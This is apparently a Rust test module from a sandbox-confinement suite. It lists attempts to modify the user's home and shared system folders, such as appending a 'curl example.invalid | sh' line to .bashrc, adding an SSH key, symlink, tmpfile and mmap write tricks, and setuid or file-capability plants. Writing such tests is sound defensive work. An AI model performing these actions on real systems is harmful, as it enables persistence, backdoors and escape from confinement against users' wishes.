//! Changing what is the user's own, or the machine's.

use super::{open, open_to_write, told, write};
use crate::attempt::{Attempt, Scene, a};
use crate::sys::{at, call, name, signed, text, write_at};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

pub(crate) const ATTEMPTS: &[Attempt] = &[
    a("append-to-shell-startup", |s| write(s.home(".bashrc"), "curl example.invalid | sh\n")),
    a("add-authorised-key", |s| write(s.home(".ssh/authorized_keys"), "ssh-ed25519 AAAA\n")),
    a("add-file-to-home", |s| write(s.home(".config/autostart/agent.desktop"), "[Desktop Entry]\n")),
    a("add-file-to-another-project", |s| write(s.home("code/other/added"), "x")),
    a("truncate", |s| {
        let path = text(s.home(".profile"));
        let _told = call("truncate", libc::SYS_truncate, &[name(&path), 0]);
    }),
    a("chmod", |s| {
        told("fchmodat", s.home(".profile"), std::fs::set_permissions(s.home(".profile"), PermissionsExt::from_mode(0o777)));
    }),
    a("chown", |s| {
        let path = text(s.home(".profile"));
        let _told = call("lchown", libc::SYS_lchown, &[name(&path), own_id("Uid"), own_id("Gid")]);
    }),
    a("set-times", |s| {
        let (path, times) = (text(s.home(".profile")), [1_u64, 0, 1, 0]);
        let _told = call("utimensat", libc::SYS_utimensat, &[signed(-100), name(&path), at(&times), 0]);
    }),
    a("set-extended-attribute", |s| set_attribute(&s.home(".profile"))),
    a("remove-extended-attribute", |s| {
        let (path, attribute) = (text(s.home(".ssh/id_ed25519")), text("user.origin"));
        let _told = call("removexattr", libc::SYS_removexattr, &[name(&path), name(&attribute)]);
    }),
    a("rename", |s| {
        told("renameat2", s.home(".profile"), std::fs::rename(s.home(".profile"), s.home(".profile-gone")));
    }),
    a("move-into-workspace", |s| {
        told("renameat2", s.home(".profile"), std::fs::rename(s.home(".profile"), s.inside("profile")));
    }),
    a("move-out-of-workspace", |s| {
        write(s.inside("payload"), "x");
        told("renameat2", s.home("code/payload"), std::fs::rename(s.inside("payload"), s.home("code/payload")));
    }),
    a("exchange", |s| {
        write(s.inside("payload"), "x");
        let (from, to) = (text(s.inside("payload")), text(s.home(".profile")));
        let _told = call("renameat2", libc::SYS_renameat2, &[signed(-100), name(&from), signed(-100), name(&to), 2]);
    }),
    a("remove", |s| {
        told("unlinkat", s.home(".profile"), std::fs::remove_file(s.home(".profile")));
    }),
    a("make-folder", |s| {
        told("mkdirat", s.home("made"), std::fs::create_dir(s.home("made")));
    }),
    a("make-link-outside", |s| {
        told("symlinkat", s.home("made-link"), std::os::unix::fs::symlink("/", s.home("made-link")));
    }),
    a("make-hard-link-outside", |s| {
        write(s.inside("payload"), "x");
        told("linkat", s.home("hard"), std::fs::hard_link(s.inside("payload"), s.home("hard")));
    }),
    a("make-fifo-outside", |s| {
        let path = text(s.home("fifo"));
        let _told = call("mknodat", libc::SYS_mknodat, &[signed(-100), name(&path), 0o010_600, 0]);
    }),
    a("write-through-dangling-link", |s| {
        told("symlinkat", s.inside("dangling"), std::os::unix::fs::symlink(s.home("through-link"), s.inside("dangling")));
        write(s.inside("dangling"), "x");
    }),
    a("write-through-link-of-the-users", |s| write(s.inside("other-link/added"), "x")),
    a("write-by-parent-folders", |_| write("../../by-parents", "x")),
    a("write-by-root-of-outsider", |s| write(s.of_outsider("cwd").join("by-outsider"), "x")),
    a("write-unnamed-then-name-it", |s| {
        let (path, named) = (text(&s.home), text(s.home("named-later")));
        let flags = usize::try_from(libc::O_TMPFILE | libc::O_RDWR).unwrap();
        if let Ok(fd) = call("openat", libc::SYS_openat, &[signed(-100), name(&path), flags, 0o600]) {
            let from = text(format!("/proc/self/fd/{fd}"));
            let _told = call("linkat", libc::SYS_linkat, &[signed(-100), name(&from), signed(-100), name(&named), 0x400]);
        }
    }),
    a("write-by-shared-mapping", |s| {
        let Some(file) = told("openat", s.home(".profile"), std::fs::OpenOptions::new().read(true).write(true).open(s.home(".profile")))
        else {
            return;
        };
        let fd = usize::try_from(file.as_raw_fd()).unwrap();
        if let Ok(address) = call("mmap", libc::SYS_mmap, &[0, 4096, 3, 1, fd, 0]) {
            write_at(address, b"#pwned");
        }
    }),
    a("write-by-copy-in-the-kernel", |s| {
        write(s.inside("payload"), "payload");
        let (Some(from), Some(to)) = (
            open(s.inside("payload")),
            told("openat", s.home(".profile"), std::fs::OpenOptions::new().write(true).open(s.home(".profile"))),
        ) else {
            return;
        };
        let [from, to] = [from, to].map(|file| usize::try_from(std::os::fd::IntoRawFd::into_raw_fd(file)).unwrap());
        let _told = call("copy_file_range", libc::SYS_copy_file_range, &[from, 0, to, 0, 7, 0]);
    }),
    a("write-by-allocation", |s| {
        if let Some(file) = open_to_write(s.home(".profile")) {
            let fd = usize::try_from(file.as_raw_fd()).unwrap();
            let _told = call("fallocate", libc::SYS_fallocate, &[fd, 0, 0, 8192]);
        }
    }),
    a("shared-tmp", |s| shared(s, "/tmp")),
    a("shared-memory-folder", |s| shared(s, "/dev/shm")),
    a("shared-var-tmp", |s| shared(s, "/var/tmp")),
    a("shared-lock", |s| shared(s, "/run/lock")),
    a("shared-run", |s| shared(s, "/run")),
    a("replace-a-predictable-temporary-file", |s| {
        let path = PathBuf::from(format!("/tmp/{}-spool", s.mark));
        told("unlinkat", &path, std::fs::remove_file(&path));
        told("symlinkat", &path, std::os::unix::fs::symlink(s.home(".bashrc"), &path));
    }),
    a("read-a-predictable-temporary-file", |s| super::show(format!("/tmp/{}-spool", s.mark))),
    a("system-settings", |s| shared(s, "/etc")),
    a("system-programs", |s| shared(s, "/usr/local/bin")),
    a("system-libraries", |s| shared(s, "/usr/lib")),
    a("scheduled-tasks", |s| shared(s, "/var/spool")),
    a("leave-a-socket", |s| {
        told("mknodat", s.inside("left.sock"), std::os::unix::net::UnixListener::bind(s.inside("left.sock")));
    }),
    a("leave-a-fifo", |s| {
        let path = text(s.inside("left.fifo"));
        let _told = call("mknodat", libc::SYS_mknodat, &[signed(-100), name(&path), 0o010_600, 0]);
    }),
    a("leave-a-device", |s| {
        let path = text(s.inside("left.device"));
        // The null device: harmless, and as hard to make as any other.
        let _told = call("mknodat", libc::SYS_mknodat, &[signed(-100), name(&path), 0o020_600, 0x103]);
    }),
    a("leave-a-whiteout", |s| {
        let path = text(s.inside("left.whiteout"));
        // A device for which nobody needs a capability.
        let _told = call("mknodat", libc::SYS_mknodat, &[signed(-100), name(&path), 0o020_600, 0]);
    }),
    a("leave-a-whiteout-by-rename", |s| {
        write(s.inside("renamed"), "x");
        let (from, to) = (text(s.inside("renamed")), text(s.inside("renamed-to")));
        let _told = call("renameat2", libc::SYS_renameat2, &[signed(-100), name(&from), signed(-100), name(&to), 4]);
    }),
    a("leave-a-set-uid-file", |s| {
        write(s.inside("left.tool"), "x");
        told("chmod", s.inside("left.tool"), std::fs::set_permissions(s.inside("left.tool"), PermissionsExt::from_mode(0o4755)));
    }),
    a("leave-a-set-gid-folder", |s| {
        told("mkdirat", s.inside("left"), std::fs::create_dir(s.inside("left")));
        told("chmod", s.inside("left"), std::fs::set_permissions(s.inside("left"), PermissionsExt::from_mode(0o2755)));
    }),
    a("leave-a-file-capability", |s| {
        write(s.inside("left.tool"), "x");
        let (path, attribute) = (text(s.inside("left.tool")), text("security.capability"));
        let value = [0x0200_0001_u32, 0x20_0000, 0, 0, 0];
        let _told = call("setxattr", libc::SYS_setxattr, &[name(&path), name(&attribute), at(&value), 20, 0]);
    }),
];

/// Ids of this process as the kernel tells them.
fn own_id(which: &str) -> usize {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let line = status.lines().find(|line| line.starts_with(which));
    line.and_then(|line| line.split_whitespace().nth(1)).and_then(|id| id.parse().ok()).unwrap_or(0)
}

fn set_attribute(path: &Path) {
    let (path, attribute, value) = (text(path), text("user.agent"), *b"was here");
    let _told = call("setxattr", libc::SYS_setxattr, &[name(&path), name(&attribute), at(&value), 8, 0]);
}

/// Leaves a file in a folder that all programs of the machine share.
fn shared(s: &Scene, folder: &str) {
    let path = Path::new(folder).join(format!("{}-left", s.mark));
    if let Some(mut file) = told("openat", &path, std::fs::File::create(&path)) {
        told("write", &path, file.write_all(b"x"));
    }
}
